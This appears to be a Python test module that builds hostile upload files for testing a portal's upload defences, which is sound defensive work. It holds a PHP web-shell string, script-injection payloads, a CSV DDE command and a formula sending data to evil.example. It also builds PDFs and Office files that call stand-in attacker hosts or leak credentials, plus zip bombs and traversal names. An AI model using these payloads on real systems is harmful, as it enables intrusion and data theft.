"""A corpus of hostile uploads, built in code so every byte is visible in review.

Each file says what it attacks. The upload tests send every file to every upload field of
the portal and require each to be refused, or stored in a way that takes its sting out
(a generated name, re-encoded bytes, served as an attachment with nosniff).
"""

import functools
import io
import zipfile
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests import files

# A real, readable one-page PDF (pypdf-built): attacks carried in a name, or in a PDF's own
# structure, reach the checks they aim at instead of failing as an unreadable file.
REAL_PDF = files.pdf()


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    content: bytes
    attack: str


def _image(kind):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


def _zip(members, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
CONTENT_TYPES_XLSX = CONTENT_TYPES_DOCX.replace(b"/word/document.xml", b"/xl/workbook.xml").replace(
    b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
)
CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
)
BOMB = b"\0" * (200 * 1024 * 1024)
RELS = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS_END = b"</Relationships>"
SCRIPT = b"<script>alert(document.cookie)</script>"


def _jpeg_with_comment_and_exif():
    """A JPEG whose comment segment holds a script and whose EXIF holds PHP and a GPS tag."""
    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"  # ImageDescription
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG", comment=SCRIPT, exif=exif.tobytes())
    return buffer.getvalue()


def _pdf_with(action=None, link_uri=None):
    """A one-page PDF whose opening runs `action` (a dictionary), or with a link to `link_uri`."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(key): value for key, value in action.items()}
        )
    if link_uri:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url=link_uri))
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _office(content_types, main_part, main_xml, parts):
    members = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": RELS
        + f'<Relationship Id="rId1" Type="{REL}officeDocument" Target="{main_part}"/>'.encode()
        + RELS_END,
        main_part: main_xml,
    }
    members.update(parts)
    return _zip(members)


def _docx_with_relationship(kind, target, part="word/_rels/document.xml.rels"):
    relationship = f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
    return _office(
        CONTENT_TYPES_DOCX,
        "word/document.xml",
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        {part: RELS + relationship.encode() + RELS_END, "word/settings.xml": b"<w:settings/>"},
    )


def _xlsx_with_external_link():
    return _office(
        CONTENT_TYPES_XLSX,
        "xl/workbook.xml",
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": RELS
            + f'<Relationship Id="rId1" Type="{REL}externalLinkPath" Target="http://evil.example/book.xlsx" '
            'TargetMode="External"/>'.encode()
            + RELS_END,
        },
    )  # 200 MB of zeros deflates to about 200 KB


@functools.cache
def hostile_files():
    png, jpeg = _image("PNG"), _image("JPEG")
    payload = b"PK\x03\x04<?php system($_GET['c']); ?><script>alert(1)</script>"
    return [
        Hostile(
            "exe-as-pdf", "report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "Windows executable renamed"
        ),
        Hostile("elf-as-pdf", "report.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "Linux executable renamed"),
        Hostile("exe-named-exe", "setup.exe", b"MZ\x90\x00" + b"\x00" * 120, "executable under its own name"),
        Hostile("html-as-pdf", "letter.pdf", b"<!doctype html><script>alert(document.cookie)</script>", "HTML renamed"),
        Hostile("html-named-html", "page.html", b"<html><script>alert(1)</script></html>", "HTML under its own name"),
        Hostile(
            "svg-script",
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG with script",
        ),
        Hostile(
            "svg-as-png",
            "photo.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "SVG renamed as an image",
        ),
        Hostile(
            "html-then-pdf-polyglot",
            "form.pdf",
            b"<html><body><script>alert(1)</script></body></html>\n" + REAL_PDF,
            "HTML first, a PDF after it",
        ),
        Hostile(
            "pdf-then-html-polyglot",
            "form.pdf",
            REAL_PDF + b"<html><script>alert(1)</script></html>\n",
            "a PDF carrying an HTML page for a browser that sniffs",
        ),
        Hostile(
            "pdf-javascript",
            "cv.pdf",
            files.pdf(javascript="app.alert(1)"),
            "PDF running JavaScript when opened",
        ),
        Hostile(
            "pdf-javascript-hex-name",
            "cv.pdf",
            files.pdf(javascript="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript"),
            "PDF JavaScript with its name hex-escaped to dodge a byte search",
        ),
        Hostile(
            "pdf-launch",
            "cv.pdf",
            files.pdf(launch="cmd.exe"),
            "PDF launching a program",
        ),
        Hostile(
            "pdf-embedded-file",
            "cv.pdf",
            files.pdf(attachment=("a.exe", b"MZ\x90\x00")),
            "PDF carrying an executable",
        ),
        Hostile("png-appended-payload", "photo.png", png + payload, "image with a payload after its end"),
        Hostile("jpeg-appended-payload", "photo.jpg", jpeg + payload, "JPEG with a payload after its end"),
        Hostile("oversized-pdf", "huge.pdf", REAL_PDF + b"%" + b"0" * (11 * 1024 * 1024), "over the size limit"),
        Hostile("empty", "nothing.pdf", b"", "empty file"),
        Hostile(
            "docx-zip-bomb",
            "thesis.docx",
            _zip({"[Content_Types].xml": CONTENT_TYPES_DOCX, "word/document.xml": BOMB}),
            "Word document that inflates to 200 MB",
        ),
        Hostile(
            "xlsx-zip-bomb",
            "completers.xlsx",
            _zip({"[Content_Types].xml": CONTENT_TYPES_XLSX, "xl/workbook.xml": BOMB}),
            "workbook that inflates to 200 MB",
        ),
        Hostile("plain-zip-as-docx", "thesis.docx", _zip({"readme.txt": b"hello"}), "a plain zip renamed .docx"),
        Hostile("plain-zip-as-xlsx", "list.xlsx", _zip({"readme.txt": b"hello"}), "a plain zip renamed .xlsx"),
        Hostile(
            "docm-as-docx",
            "thesis.docx",
            _zip(
                {
                    "[Content_Types].xml": CONTENT_TYPES_DOCM,
                    "word/document.xml": b"<w:document/>",
                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
                }
            ),
            "macro-enabled Word document renamed .docx",
        ),
        Hostile("dot-dot-name", "../../../etc/cron.d/evil.pdf", REAL_PDF, "a name climbing out of the folder"),
        Hostile("rtl-override-name", "report\u202efdp.exe", b"MZ\x90\x00" + b"\x00" * 60, "right-to-left override"),
        Hostile("rtl-override-pdf", "invoice\u202egpj.pdf", REAL_PDF, "a PDF whose shown name reads .jpg"),
        Hostile("null-byte-name", "report.pdf\x00.exe", REAL_PDF, "a NUL byte in the name"),
        Hostile("long-name", "a" * 300 + ".pdf", REAL_PDF, "a 300-character name"),
        Hostile(
            "csv-formula-equals",
            "completers.csv",
            b"name,email,profession,registration,result\n"
            b'=HYPERLINK("http://evil.example/?"&A1),a@example.org,Nurse,NMC 1,completed\n',
            "CSV cell that runs as a formula in a spreadsheet",
        ),
        Hostile(
            "csv-formula-dde",
            "completers.csv",
            b"name,email,profession,registration,result\n"
            b"Ann,b@example.org,\"+cmd|' /C calc'!A0\",HCPC 2,completed\n"
            b"Bob,c@example.org,-2+3,BACP 3,completed\n"
            b"Cat,d@example.org,@SUM(1+1),UKCP 4,completed\n",
            "CSV cells starting with + - @ (DDE)",
        ),
        Hostile(
            "jpeg-comment-and-exif",
            "photo.jpg",
            _jpeg_with_comment_and_exif(),
            "JPEG carrying a script in its comment, PHP and a GPS position in its EXIF",
        ),
        Hostile(
            "pdf-open-uri",
            "cv.pdf",
            _pdf_with(action={"/S": NameObject("/URI"), "/URI": TextStringObject("http://evil.example/opened")}),
            "PDF calling a web address as it opens (/OpenAction /URI)",
        ),
        Hostile(
            "pdf-link-uri",
            "cv.pdf",
            _pdf_with(link_uri="http://evil.example/track"),
            "PDF with a link annotation to a web address (/URI)",
        ),
        Hostile(
            "pdf-submit-form",
            "cv.pdf",
            _pdf_with(
                action={
                    "/S": NameObject("/SubmitForm"),
                    "/F": DictionaryObject(
                        {
                            NameObject("/FS"): NameObject("/URL"),
                            NameObject("/F"): TextStringObject("http://evil.example"),
                        }
                    ),
                    "/Fields": ArrayObject(),
                }
            ),
            "PDF sending a form to a web address as it opens (/SubmitForm)",
        ),
        Hostile(
            "docx-remote-template",
            "thesis.docx",
            _docx_with_relationship(
                "attachedTemplate", "http://evil.example/template.dotm", part="word/_rels/settings.xml.rels"
            ),
            "Word document fetching its template from a web address",
        ),
        Hostile(
            "docx-file-target",
            "thesis.docx",
            _docx_with_relationship("image", "file://evil.example/share/pixel.png"),
            "Word document loading a picture from a file:// share (leaks the reader's credentials)",
        ),
        Hostile(
            "docx-unc-hyperlink",
            "thesis.docx",
            _docx_with_relationship("hyperlink", "\\\\evil.example\\share\\doc.docx"),
            "Word document linking to a file on another computer",
        ),
        Hostile(
            "xlsx-external-link",
            "completers.xlsx",
            _xlsx_with_external_link(),
            "workbook linked to another workbook on a web address",
        ),
        Hostile(
            "gif-zip-polyglot", "scan.png", b"GIF89a" + _zip({"evil.class": b"\xca\xfe\xba\xbe"}), "GIF/ZIP polyglot"
        ),
    ]
